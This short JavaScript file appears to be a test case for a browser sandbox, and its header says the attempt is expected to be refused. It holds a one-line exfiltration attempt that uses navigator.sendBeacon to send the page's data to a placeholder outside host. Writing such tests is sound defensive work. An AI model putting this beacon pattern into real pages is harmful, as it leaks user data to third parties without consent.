// must: refused: (navigator is|sendBeacon)
// Sends what nobody waits for.

/** @param {import("../../../browser/attacked_page.mjs").Places} places */
export default async ({ elsewhere, here }) => {
  navigator.sendBeacon(`${elsewhere}beacon`, here);
};
